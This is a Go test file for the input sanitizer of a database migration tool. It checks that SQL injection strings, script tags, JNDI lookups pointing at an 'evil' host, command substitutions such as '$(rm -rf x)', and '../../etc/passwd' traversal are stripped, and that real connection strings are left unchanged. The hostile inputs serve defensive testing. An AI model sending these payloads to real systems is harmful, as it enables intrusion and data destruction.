// Copyright (c) 2024 Behnam Momeni
// This Source Code Form is subject to the terms of the Mozilla Public
// License, v. 2.0. If a copy of the MPL was not distributed with this
// file, You can obtain one at https://mozilla.org/MPL/2.0/.

package sanitize_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/momeni/migrun/pkg/core/sanitize"
)

var injection = []string{"--", "/*", "*/", "char(", "' or '1'='1", " or 1=1"}

func assertClean(t *testing.T, s string) {
	t.Helper()
	l := strings.ToLower(s)
	for _, p := range injection {
		assert.NotContains(t, l, p, s)
	}
}

func TestValueRemovesSQLInjection(t *testing.T) {
	for _, in := range []string{
		"value' --",
		"' or '1'='1",
		"admin' OR '1'='1",
		"x or 1=1",
		"a /* hidden */ b",
		"CHAR(65)",
		"v -- trailing",
	} {
		assertClean(t, sanitize.Value(in))
	}
}

func TestValueRemovesScriptAndLookups(t *testing.T) {
	assert.Equal(t, "ab", sanitize.Value("a<script>alert(1)</script>b"))
	assert.Equal(t, "ab", sanitize.Value("a<SCRIPT src=x>\n</Script>b"))
	assert.Equal(t, "x", sanitize.Value("x${jndi:ldap://evil/a}"))
	assert.Equal(t, "", sanitize.Value("${JNDI:rmi://evil/a}"))
}

func TestValueKeepsConnectionTargets(t *testing.T) {
	for _, in := range []string{
		"jdbc:h2:mem:test;DB_CLOSE_DELAY=-1",
		"jdbc:postgresql://db:5432/app?sslmode=disable",
		"app:pw@tcp(db:3306)/app?parseTime=true",
		"mysql://app:pw@tcp(db:3306)/app",
		"classpath:db/migration/{vendor}",
		"filesystem:/srv/migrations,classpath:db/migration",
		"flyway_schema_history",
		"<< Flyway Baseline >>",
		"${env.DB_URL:jdbc:h2:mem:x}",
	} {
		assert.Equal(t, in, sanitize.Value(in))
		assert.False(t, sanitize.Changed(in), in)
	}
}

func TestValueStripsCommandSubstitutionFromTargets(t *testing.T) {
	for in, want := range map[string]string{
		"jdbc:postgresql://db/app$(id)":         "jdbc:postgresql://db/appid",
		"postgres://db/app`id`":                 "postgres://db/appid",
		"jdbc:mysql://db/app(x)":                "jdbc:mysql://db/appx",
		"app:pw@tcp(db:3306)/app$(id)":          "app:pw@tcp(db:3306)/appid)",
		"mysql://app:pw@unix(/tmp/s.sock)/`id`": "mysql://app:pw@unix(/tmp/s.sock)/id",
	} {
		assert.Equal(t, want, sanitize.Value(in), in)
		assert.True(t, sanitize.Changed(in), in)
	}
}

func TestValueStripsTraversal(t *testing.T) {
	for _, in := range []string{
		"../../etc/passwd",
		`..\..\windows\system32`,
		"classpath:..././..././secret",
		"filesystem:/srv/../../root",
	} {
		assert.NotContains(t, sanitize.Value(in), "../", in)
		assert.NotContains(t, sanitize.Value(in), `..\`, in)
	}
	assert.Equal(t, "filesystem:/srv/rm -rf x",
		sanitize.Value("filesystem:/srv/$(rm -rf x)"),
	)
	assert.Equal(t, "filesystem:/srv/x",
		sanitize.Value("filesystem:/srv/`x`"),
	)
}

func TestValueNeverPanics(t *testing.T) {
	inputs := []string{
		"", " ", "\x00", "'", "--", "${", "}", "${${${${",
		strings.Repeat("../", 1000), strings.Repeat("<script>", 100),
		"\xff\xfe invalid utf8", "/*/*/*", "char(char(char(",
	}
	for _, in := range inputs {
		assert.NotPanics(t, func() { sanitize.Value(in) }, in)
	}
}

func TestIsPathLike(t *testing.T) {
	assert.True(t, sanitize.IsPathLike("db/migration"))
	assert.True(t, sanitize.IsPathLike(`C:\scripts`))
	assert.True(t, sanitize.IsPathLike("classpath:db"))
	assert.True(t, sanitize.IsPathLike("FILESYSTEM:db"))
	assert.False(t, sanitize.IsPathLike("flyway_schema_history"))
}

func ExampleValue() {
	fmt.Printf("%q\n", sanitize.Value("../../etc/passwd"))
	fmt.Printf("%q\n", sanitize.Value("jdbc:h2:mem:test;DB_CLOSE_DELAY=-1"))
	// Output:
	// "etc/passwd"
	// "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1"
}
